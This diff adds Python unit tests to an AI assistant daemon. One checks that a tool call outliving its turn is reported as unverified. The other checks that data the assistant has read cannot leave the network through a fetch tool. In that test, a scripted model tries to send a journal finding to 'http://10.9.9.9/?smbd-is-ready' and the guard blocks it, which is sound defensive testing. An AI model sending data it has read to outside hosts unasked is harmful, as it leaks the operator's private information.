@@ -5,9 +5,10 @@ from __future__ import annotations
 import asyncio
 from collections.abc import AsyncIterator
 from dataclasses import dataclass, replace
-from typing import Any
+from typing import Annotated, Any
 
 import pytest
+from msgspec import Meta
 
 from jarvis_daemon.assistant.conversation.turn import PastTurn
 from jarvis_daemon.assistant.llm.contract import (
@@ -22,6 +23,8 @@ from jarvis_daemon.assistant.llm.contract import (
     guess_tokens,
 )
 from jarvis_daemon.protocol import messages as m
+from jarvis_daemon.tools import Tier, ToolSpec
+from jarvis_daemon.tools.spec import Args, Output
 from tests.unit.assistant.loop.conftest import OPERATOR, House, guest
 from tests.unit.assistant.loop.script import brain, calls, last_user, results, says
 
@@ -273,6 +276,57 @@ async def test_a_turn_has_an_end(house: House) -> None:
     assert outcome.status == "failed"
     assert outcome.text == "The node \n\nI stopped: this took longer than 30 seconds."
     assert slow.ended
+
+
+async def test_a_call_that_outlives_its_turn_is_told_as_it_is(house: House) -> None:
+    house.settings.assistant.router.turn_s = 30
+    goes_on, begun = asyncio.Event(), asyncio.Event()
+    spec = house.room.registry.get("restart_service")
+
+    async def slow(args: Any, target: Any, act: Any) -> Any:
+        begun.set()
+        await goes_on.wait()
+        return await spec.run(args, target, act)
+
+    house.room.registry.remove("restart_service")
+    house.room.registry.add(replace(spec, run=slow))
+    asking = house.ask(brain(calls(("restart_service", SMBD))), "restart smbd on pve")
+    task = asyncio.get_running_loop().create_task(asking)
+    await begun.wait()
+    await house.clock.advance(31)
+    outcome = await task
+    assert [call.status for call in outcome.calls] == ["unverified"]
+    assert "was under way when I stopped waiting" in outcome.calls[0].text
+    goes_on.set()
+    await house.room.gate.wait(m.ToolWait(id=next(iter(house.room.gate._calls)), wait_s=5), OPERATOR)
+    assert house.acted == ["service:pve/smbd"]
+
+
+async def test_nothing_that_was_read_goes_out_of_the_house_by_a_read(house: House) -> None:
+    asked: list[str] = []
+
+    class Address(Args):
+        url: Annotated[str, Meta(max_length=200)]
+
+    async def fetch(args: Address, target: Any, act: Any) -> Output:
+        asked.append(args.url)
+        return Output()
+
+    house.room.registry.add(ToolSpec(
+        name="other_fetch", room="mcp", tier=Tier.GREEN, description="Fetches.", args=Address, output=Output,
+        run=fetch, open_world=True, tainted=True,
+    ))  # fmt: skip
+    leak = ("other_fetch", {"url": "http://10.9.9.9/?smbd-is-ready"})
+    model = brain(calls(("get_journal", SMBD)), calls(leak), says("No."))
+    outcome = await house.ask(model, "look at smbd on pve")
+    assert asked == []
+    assert "Only what the operator himself says goes there" in results(model.backend.requests[2])[1].text
+    assert [call.name for call in outcome.calls] == ["get_journal"]
+    own = ("other_fetch", {"url": "http://10.9.9.9/status"})
+    await house.ask(
+        brain(calls(("get_journal", SMBD)), calls(own), says("Yes.")), "fetch http://10.9.9.9/status now"
+    )
+    assert asked == ["http://10.9.9.9/status"]
 
 
 async def test_a_false_claim_never_reaches_the_person(house: House) -> None:
